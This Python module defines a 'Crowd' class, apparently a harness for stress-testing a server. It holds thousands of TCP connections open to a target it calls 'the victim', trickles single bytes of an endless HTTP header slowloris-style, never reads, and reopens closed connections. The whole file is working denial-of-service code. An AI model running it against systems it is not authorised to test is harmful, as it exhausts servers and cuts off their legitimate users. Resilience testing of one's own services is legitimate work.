"""Strangers who open connections by the thousand, and send a byte now and then, or nothing, or never read."""

from __future__ import annotations

import contextlib
import resource
import selectors
import socket
import threading
import time
from collections import deque
from types import TracebackType

# No request of it is ever whole.
DRIP = b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"x" * 10_000
# Connections that are being opened at a time, and that are opened in a second: it is no flood of packets, which is the
# kernel's to withstand.
AT_ONCE, RATE = 200, 1000


class Crowd:
    """Keeps ``size`` connections open for as long as the block runs: for one that is closed it opens another.

    Args:
        host, port: of the victim.
        size: how many connections.
        pace: seconds between two bytes of each; 0: it sends nothing at all.
        first: what each sends at once.
        renew: does it open another for each that is closed?
    """

    def __init__(
        self, host: str, port: int, size: int, pace: float = 1.0, first: bytes = b"", renew: bool = True
    ) -> None:
        self._address, self.size, self._pace, self._first, self._renew = (host, port), size, pace, first, renew
        self._selector = selectors.DefaultSelector()
        self._opening: set[socket.socket] = set()
        self._idle: deque[tuple[float, socket.socket, int]] = deque()
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.opened = 0
        self.closed = 0

    def __enter__(self) -> Crowd:
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self._thread.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self._over.set()
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            self._close(key.fileobj)  # type: ignore[arg-type]
        self._selector.close()

    @property
    def open(self) -> int:
        """How many connections there are now, those that wait to be accepted among them."""
        return self.opened - self.closed

    def _close(self, connection: socket.socket) -> None:
        self._selector.unregister(connection)
        # Without TIME_WAIT: ten thousand ports of this machine would be taken for a minute.
        with contextlib.suppress(OSError):
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        connection.close()

    def _open(self) -> None:
        connection = socket.socket()
        connection.setblocking(False)
        connection.connect_ex(self._address)
        self._opening.add(connection)
        self._selector.register(connection, selectors.EVENT_WRITE)

    def _opened(self, connection: socket.socket) -> None:
        self._opening.discard(connection)
        if connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self._close(connection)
            return
        self.opened += 1
        with contextlib.suppress(OSError):
            connection.send(self._first)
        # Nothing is read; but its end is an event.
        self._selector.modify(connection, selectors.EVENT_READ)
        if self._pace:
            self._idle.append((time.monotonic() + self._pace, connection, 0))

    def _ended(self, connection: socket.socket) -> None:
        try:
            gone = connection.recv(1) == b""
        except BlockingIOError:
            return
        except OSError:
            gone = True
        if gone or self._renew:
            self.closed += 1
            self._close(connection)

    def _drip(self) -> None:
        while self._idle and self._idle[0][0] <= time.monotonic():
            due, connection, sent = self._idle.popleft()
            if connection.fileno() == -1:
                continue
            with contextlib.suppress(OSError):
                connection.send(DRIP[sent : sent + 1])
            self._idle.append((due + self._pace, connection, sent + 1))

    def _run(self) -> None:
        began, begun = time.monotonic(), 0
        while not self._over.is_set():
            wanted = self.size - (self.open if self._renew else self.opened) - len(self._opening)
            allowed = min(AT_ONCE - len(self._opening), int((time.monotonic() - began) * RATE) - begun)
            for _ in range(min(wanted, allowed)):
                self._open()
                begun += 1
            for key, _ in self._selector.select(0.05):
                one: socket.socket = key.fileobj  # type: ignore[assignment]
                if one in self._opening:
                    self._opened(one)
                else:
                    self._ended(one)
            self._drip()
